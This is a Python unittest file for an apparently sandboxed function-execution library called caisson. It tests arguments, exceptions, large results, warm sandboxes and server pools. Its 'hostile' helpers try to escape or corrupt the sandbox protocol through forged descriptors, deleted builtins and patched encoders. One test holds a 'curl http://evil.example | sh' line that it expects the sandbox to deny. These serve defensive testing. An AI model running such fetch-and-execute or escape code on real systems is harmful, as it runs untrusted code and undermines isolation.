"""Functions that run in a sandbox."""

import ast
import asyncio
import contextlib
import dataclasses
import enum
import fcntl
import io
import json as renamed
import math
import mmap
import os
import subprocess
import tempfile
import threading
import time
import unittest
from unittest import mock

import caisson
import caisson._mapped
import caisson.functions
from caisson import CallTimeout, Client, CrashedError, InvalidError, RemoteError, SandboxExecutor, ValueFormatError, sandbox_run
from caisson import _server
from caisson._run import Connection
from caisson._transport import Address
from caisson.functions import _values

_mapped_plain = caisson._mapped.open_descriptor
LIMIT = 3
TABLE = {"a": [1, 2], 5: {"x"}}


class Colour(enum.Enum):
    RED = 1
    BLUE = 2


@dataclasses.dataclass(frozen=True)
class Point:
    x: int
    y: float = 0.0

    def moved(self, by):
        return Point(self.x + by, self.y)


class OursError(Exception):
    def __init__(self, message, code):
        super().__init__(message, code)
        self.code = code


def helper(n):
    return n + LIMIT


@sandbox_run
def plus(a, b=2, *rest, c=3, **more):
    return a + b + sum(rest) + c, more


@sandbox_run
def uses(n: "no.such.annotation") -> int:
    return [helper(n), math.floor(2.5), renamed.dumps([1]), sorted(TABLE["a"]), plus(1)[0], factorial(5)]


@sandbox_run
def factorial(n):
    return 1 if n < 2 else n * factorial(n - 1)


@sandbox_run
def is_inside():
    return os.getcwd(), os.path.exists("/workspace")


@sandbox_run
async def slowly(n):
    import asyncio as a

    await a.sleep(0)
    return n * 2


@sandbox_run
def point(p, colour):
    return p.moved(1), [Colour.BLUE, colour]


@sandbox_run
def raises(what):
    if what == "known":
        raise KeyError("gone", 5)
    if what == "ours":
        raise OursError("bad", 7)
    if what == "local":
        class Local(Exception):
            def __str__(self):
                raise ValueError("no text")
        raise Local("x")
    if what == "exit":
        raise SystemExit(3)
    raise KeyboardInterrupt


def hand_back(content, seals=15, files=1):
    """Hand something to the agent in the runner's place, and say whether it was taken."""
    import array
    import fcntl
    import socket
    import sys

    fd = os.memfd_create("mine", os.MFD_ALLOW_SEALING)
    os.write(fd, content)
    fcntl.fcntl(fd, 1033, seals)
    with socket.socket(socket.AF_UNIX) as to:
        to.connect(os.path.dirname(sys.modules["__main__"].__file__) + "/answer.sock")
        to.sendmsg([b"a"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd] * files))] if files else [])
        try:
            return to.recv(1) == b"\x01"
        except ConnectionResetError:
            return False


@sandbox_run(max_result="1m")
def hands_back_wrong():
    refused = [hand_back(b"x", seals) for seals in (0, 1, 7, 8, 14)]
    refused += [hand_back(b"x", files=n) for n in (0, 2)]
    refused.append(hand_back(bytes(3 << 20)))
    return refused


@sandbox_run
def large(n):
    return {"it": bytes(range(256)) * (n >> 8), "n": n}


@sandbox_run
def hostile(what):
    import builtins
    import socket
    import sys

    if what == "exit":
        os._exit(0)
    if what == "close":
        os.closerange(0, 1000)
        return "closed"
    if what == "builtins":
        remove = delattr
        for name in list(vars(builtins)):
            remove(builtins, name)
        return "done"
    if what == "descriptors":
        for fd in range(1024):
            try:
                os.write(fd, b"CAISSON1" + bytes(8))
            except OSError:
                pass
        return "mine"
    if what == "10 GiB":
        return [bytes(64 << 20) for _ in range(160)]
    if what == "lambda":
        return {"f": lambda: 1}
    if what == "itself":
        value = [1]
        value.append((value, hostile))
        return value
    if what == "file":
        hand_back(b"CAISSON1" + bytes(8))
        os._exit(0)
    if what == "first":  # the runner's own comes too late
        hand_back(b"CAISSON1" + bytes(8))
        return "mine"
    if what == "patch":
        sys.modules["caisson_values"].pieces = lambda *a: b"CAISSON1junk"
        return "mine"
    if what == "generator":
        return [1, {"a": (i for i in ())}]
    if what == "socket":
        return socket.socket()
    if what == "function":
        return hostile
    if what == "recursion":
        return hostile("recursion")
    if what == "large":
        return bytes(1 << 20)
    if what == "memory":
        return bytearray(1 << 40)


@sandbox_run
def forks():
    if os.fork() == 0:
        return "child"
    os.wait()
    return "parent"


class Counter:
    def __init__(self, start):
        self.count = start

    @sandbox_run
    def add(self, n):
        self.count += n
        return self.count + self._twice(n)

    def _twice(self, n):
        return 2 * n

    @classmethod
    @sandbox_run
    def made(cls, n):
        return cls(n).count

    @sandbox_run
    @classmethod
    def made_too(cls, n):
        return cls(n).count + 1

    @staticmethod
    @sandbox_run
    def plain(n):
        return n - 1


class Further(Counter):
    def __init__(self, start, base=Point(1)):
        super().__init__(start + base.x)

    @sandbox_run
    def add(self, n):
        return super()._twice(n) + self.count


def wait_for(there):
    for _ in range(6000):
        if there():
            return
        time.sleep(0.01)
    raise TimeoutError("what was waited for did not come")


class TestFunctions(unittest.TestCase):
    def test_arguments_and_globals(self):
        self.assertEqual(plus(1), (6, {}))
        self.assertEqual(plus(1, 1, 1, 1, c=0, d="x"), (4, {"d": "x"}))
        self.assertRaises(TypeError, plus)
        self.assertEqual(uses(4), [7, 2, "[1]", [1, 2], 6, 120])
        self.assertEqual(is_inside(), ("/workspace", True))
        self.assertEqual(point(Point(1, 2.5), Colour.RED), (Point(2, 2.5), [Colour.BLUE, Colour.RED]))

    def test_kinds(self):
        self.assertEqual(asyncio.run(slowly(4)), 8)
        c = Counter(10)
        self.assertEqual((c.add(5), c.count), (25, 10))
        self.assertEqual((Further(1).add(5), Further.made(1)), (12, 2))
        self.assertEqual((Counter.made(4), c.made(3), Counter.made_too(4), Counter.plain(4), c.plain(1)), (4, 3, 5, 3, 0))

    def test_closure(self):
        factor, seen = 3, [1]

        @sandbox_run
        def inner(n):
            seen.append(n)
            return n * factor, seen

        self.assertEqual((inner(2), seen), ((6, [1, 2]), [1]))

        @sandbox_run
        def assigns():
            nonlocal factor
            factor = 4

        self.assertRaisesRegex(InvalidError, "factor", assigns)

        @sandbox_run
        def counts(n):
            def more():
                nonlocal n  # its own, which travels
                n += factor

            more()
            return n

        self.assertEqual(counts(1), 4)
        self.assertRaisesRegex(InvalidError, "lambda", sandbox_run(lambda: 1))
        space = {"sandbox_run": sandbox_run}
        exec("def sourceless(): return 1", space)
        self.assertRaisesRegex(InvalidError, "no source", sandbox_run(space["sourceless"]))
        self.assertRaisesRegex(ValueFormatError, r"args'\]\[0\].*larger than", plus, bytes(41 << 20))
        self.assertRaisesRegex(ValueFormatError, r"args'\]\[0\].*lock", plus, threading.Lock())

    def test_exceptions(self):
        with self.assertRaises(KeyError) as caught:
            raises("known")
        self.assertEqual(caught.exception.args, ("gone", 5))
        self.assertIn('raise KeyError("gone", 5)'.replace('"', "'"), str(caught.exception.__cause__))
        with self.assertRaises(OursError) as caught:
            raises("ours")
        self.assertEqual(caught.exception.args, ("bad", 7))
        with self.assertRaisesRegex(RemoteError, "__str__ raised ValueError"):
            raises("local")
        for what, name in (("exit", "SystemExit"), ("interrupt", "KeyboardInterrupt")):
            with self.assertRaises(RemoteError) as caught:
                raises(what)
            self.assertEqual(caught.exception.type_name, name)

    def test_outcome_never_raises(self):
        good = plus.outcome(1)
        self.assertEqual((good.ok, good.value, good.result.exit_reason), (True, (6, {}), "exited"))
        self.assertGreater(good.usage.wall_ms, 0)
        bad = raises.outcome("known")
        self.assertEqual((bad.ok, type(bad.error)), (False, KeyError))
        self.assertIsInstance(plus.outcome().error, TypeError)

        @sandbox_run
        def refused():
            os.system("curl http://evil.example | sh")

        self.assertIsInstance(refused.outcome().error, caisson.DeniedError)

    def test_hostile(self):
        for what, kind in (
            ("exit", CrashedError), ("file", CrashedError), ("first", CrashedError), ("generator", ValueFormatError), ("socket", ValueFormatError),
            ("function", ValueFormatError), ("lambda", ValueFormatError), ("itself", ValueFormatError), ("recursion", RecursionError), ("memory", MemoryError),
            ("10 GiB", ValueFormatError),
        ):  # fmt: skip
            with self.subTest(what):
                self.assertIsInstance(hostile.outcome(what).error, kind)
        self.assertRaisesRegex(ValueFormatError, r"\[1\]\['a'\].*generator", hostile, "generator")
        self.assertEqual((hostile("close"), forks()), ("closed", "parent"))
        for what in ("builtins", "patch", "descriptors"):  # it may come through, or not: as data or an error
            outcome = hostile.outcome(what)
            self.assertTrue(isinstance(outcome.error, Exception) or outcome.value in ("done", "mine"), outcome)
        self.assertIsInstance(hostile.with_options(max_result=100_000).outcome("large").error, ValueFormatError)
        self.assertEqual(len(hostile("large")), 1 << 20)
        self.assertTrue(str(hostile.outcome("generator").error).startswith("result[1]['a']: a builtins.generator"))

    def test_hands_back_what_can_be_changed(self):
        self.assertEqual(hands_back_wrong(), [False] * 8)

    def test_large(self):
        n, mapped = 40 << 20, []

        def opened(*args):
            mapped.append(_mapped_plain(*args))
            return mapped[-1]

        with mock.patch("caisson._mapped.open_descriptor", opened):
            value = large(n)
        self.assertEqual((len(mapped), type(mapped[0]), value["n"], len(value["it"])), (1, mmap.mmap, n, n))
        self.assertEqual((value["it"][:256], value["it"][-256:]), (bytes(range(256)),) * 2)
        with self.subTest("from a server elsewhere it streams"), mock.patch("caisson._mapped.server_of", lambda sock: 0):
            self.assertEqual(large(n), value)
        with self.subTest("what cannot be mapped streams"), mock.patch("caisson._mapped.open_descriptor", lambda *args: None):
            self.assertEqual(large(n), value)

    def test_maps_what_nobody_can_change_alone(self):
        fd = os.memfd_create("test", os.MFD_ALLOW_SEALING)
        self.addCleanup(os.close, fd)
        os.write(fd, b"as it was")
        for seals in (1 << 1, 1 << 2, 1 << 3):  # shrinking, growing, writing
            self.assertIsNone(_mapped_plain(os.getpid(), fd, 9))
            fcntl.fcntl(fd, 1033, seals)
        self.assertIsNone(_mapped_plain(os.getpid(), fd, 9))
        fcntl.fcntl(fd, 1033, 1)
        for process, number, size in ((os.getpid(), fd, 8), (os.getpid(), fd, 0), (os.getpid(), 9999, 9), (1 << 22, fd, 9), (os.getpid(), 1, 9)):
            self.assertIsNone(_mapped_plain(process, number, size))
        with _mapped_plain(os.getpid(), fd, 9) as m:
            m[:2] = b"AS"
            self.assertEqual((m[:], os.pread(fd, 9, 0)), (b"AS it was", b"as it was"))

    def test_output_and_options(self):
        @sandbox_run(timeout=1)
        def sleeps():
            import time

            time.sleep(600)

        with self.assertRaises(TimeoutError) as caught:
            sleeps()
        self.assertIsInstance(caught.exception, CallTimeout)

        @sandbox_run(files={"in.txt": "given"}, memory="128m", cpus=1)
        def says():
            with open("in.txt") as f:
                print(f.read())

        for function, want in ((says, "given\n"), (says.with_options(quiet=True), "")):
            out = io.StringIO()
            with contextlib.redirect_stdout(out):
                function()
            self.assertEqual(out.getvalue(), want)
        self.assertEqual((says.outcome().stdout, says.with_options(quiet=True).outcome().stdout), ("given\n", ""))
        self.assertRaises(InvalidError, sandbox_run, print)
        with self.assertRaises(InvalidError):
            sandbox_run(no_such=1)

    def test_packages(self):
        @sandbox_run(packages=["six"])
        def has():
            import six

            return six.__name__, six.PY3

        self.assertEqual(has(), ("six", True))

    def test_warm(self):
        @sandbox_run(memory="300m")  # so that no other test's calls have the same sandboxes
        def traces():
            import json

            def name_of(process):
                try:
                    with open(f"/proc/{process}/comm") as f:
                        return f.read()
                except OSError:
                    return ""  # it has ended

            found = hasattr(json, "trace"), os.path.exists("/tmp/trace"), os.listdir("/workspace"), [p for p in os.listdir("/proc") if name_of(p) == "sleep\n"]
            subprocess.Popen(["sleep", "600"], start_new_session=True)
            json.trace = 1
            open("/tmp/trace", "w").close()
            open("/workspace/trace", "w").close()
            return found

        first, second, fresh = traces.outcome(), traces.outcome(), traces.with_options(warm=False).outcome()
        for outcome in (first, second, fresh):
            self.assertEqual(outcome.get(), (False, False, [], []))
        self.assertEqual((first.result.warm, second.result.warm, fresh.result.warm), (True, True, False))
        self.assertEqual(first.result.sandbox, second.result.sandbox)
        self.assertNotIn(fresh.result.sandbox, (first.result.sandbox, ""))

    def test_at_once(self):
        """Calls that begin together share sandboxes in place of making one each."""

        async def main():
            return await asyncio.gather(*(caisson.aio.call(factorial.with_options(memory="301m").outcome, 4) for _ in range(20)))

        outcomes = asyncio.run(main())
        self.assertEqual([o.get() for o in outcomes], [24] * 20)
        self.assertLess(len({o.result.sandbox for o in outcomes}), 20)  # how many depends on how fast each is

    def test_what_is_asked_for(self):
        """Each option of a function is one of its run."""

        class Asked(Exception):
            pass

        calls = factorial.with_options(
            timeout=2.5, memory="64m", cpus=0.5, image="an/image", runtime="docker", files={"a": "b"}, keep=True, approve="ask", max_result="2g", client=Client("unix:///nowhere"),
        )  # fmt: skip
        with mock.patch.object(Client, "begin", side_effect=Asked) as begin:
            self.assertRaises(Asked, calls, 4)
        run = begin.call_args.args[0]["run"]
        want = {
            "timeout_ms": 2500.0, "image": "an/image", "runtime": "docker", "keep": True, "approve": "ask", "files": [{"path": "a", "data_base64": "Yg==", "mode": 0o644}],
            "limits": {"memory_bytes": 64 << 20, "cpus": 0.5, "file_size_bytes": (2 << 30) + (1 << 20)},
        }  # fmt: skip
        self.assertEqual({k: run.get(k) for k in want}, want)
        self.assertNotIn("warm", run)  # what is kept is nobody else's

    def test_small_results(self):
        @sandbox_run
        def made(size):
            return bytes(size)

        for size, inside in ((1 << 10, True), (64 << 10, False)):  # in the result itself, or beside it
            outcome = made.outcome(size)
            self.assertEqual(outcome.get(), bytes(size))
            self.assertEqual([a.data is not None for a in outcome.result.artifacts], [inside])

    def test_what_a_call_takes(self):
        """A call has one connection, reads no source again, sends nothing that a server has, and is not found fault with for that."""
        self.assertEqual(plus(1), (6, {}))
        dial = mock.patch.object(Address, "dial", autospec=True, side_effect=Address.dial)
        with dial as dialled, mock.patch.object(_server, "_answers") as probed, mock.patch.object(Connection, "_send") as sent, mock.patch.object(ast, "parse") as parsed:
            outcome = plus.outcome(1)
        self.assertEqual((outcome.get(), dialled.call_count, [m.call_count for m in (probed, sent, parsed)]), ((6, {}), 1, [0, 0, 0]))
        self.assertEqual(outcome.result.decision.findings, [])

    def test_server_of_another_version(self):
        text = _values()[1] + b"\n# another" + b"." * (1 << 16)
        other = caisson.functions._inside() + "# another"  # which is judged, and has to pass
        with mock.patch.object(caisson.functions, "_values", lambda: ("sha256:" + "0" * 64, text)), mock.patch.object(caisson.functions, "_inside", lambda: other):
            self.assertEqual(plus(1), (6, {}))

    def test_warm_is_compiled(self):
        @sandbox_run
        def fails():
            raise KeyError

        for warm in (True, False):  # what was compiled before has a name of no file
            error = fails.with_options(warm=warm).outcome().error
            self.assertEqual('File "caisson_inside.py"' in str(error.__cause__), warm, error.__cause__)

    def test_trusted(self):
        @sandbox_run
        def what(n):
            return [Point(n), range(3), slice(1, 2)]

        self.assertRaisesRegex(ValueFormatError, "slice", what, 1)
        self.assertEqual(what.with_options(trusted=True)(1), [Point(1), range(3), slice(1, 2)])

        @sandbox_run
        def claims():
            import caisson_values

            hand_back(caisson_values.encode({"object": b"cbuiltins\nlist\n."}))
            os._exit(0)

        self.assertIsInstance(claims.outcome().error, CrashedError)
        self.assertIs(claims.with_options(trusted=True)(), list)

    def test_pool_of_servers(self):
        with tempfile.TemporaryDirectory(prefix="c") as folder:
            address = f"unix://{folder}/s"
            command = [caisson._server.binary(), "serve", "--listen", address]
            server = subprocess.Popen(command, env={**os.environ, "CAISSON_STATE_DIR": folder + "/state"}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            try:
                wait_for(lambda: os.path.exists(folder + "/s"))
                other = Client(address)
                calls = factorial.with_options(pool=[Client(), other])
                outcomes = [calls.outcome(4) for _ in range(4)]
                self.assertEqual([o.get() for o in outcomes], [24] * 4)
                boxes = [o.result.sandbox for o in outcomes]
                self.assertNotEqual(boxes[0], boxes[1])
                self.assertEqual(boxes[:2], boxes[2:])
                self.assertEqual(list(calls.map([1, 2, 3, 4])), [1, 2, 6, 24])
            finally:
                server.terminate()
                server.wait()
        for pool in ("kubernetes", []):
            self.assertRaisesRegex(InvalidError, "list of servers", factorial.with_options, pool=pool)

    def test_map_and_submit(self):
        self.assertEqual(list(factorial.map([1, 2, 3, 4])), [1, 2, 6, 24])
        with SandboxExecutor(3) as pool:
            crashed, fine = pool.submit(hostile, "exit"), [pool.submit(helper, n) for n in range(3)]
            self.assertEqual([f.result() for f in fine], [3, 4, 5])
            self.assertIsInstance(crashed.exception(), CrashedError)

            @sandbox_run(timeout=1)
            def late():
                import time

                time.sleep(600)

            slow, fine = pool.submit(late), [pool.submit(helper, n) for n in range(3)]
            self.assertEqual([f.result() for f in fine], [3, 4, 5])
            self.assertIsInstance(slow.exception(), CallTimeout)


if __name__ == "__main__":
    unittest.main()
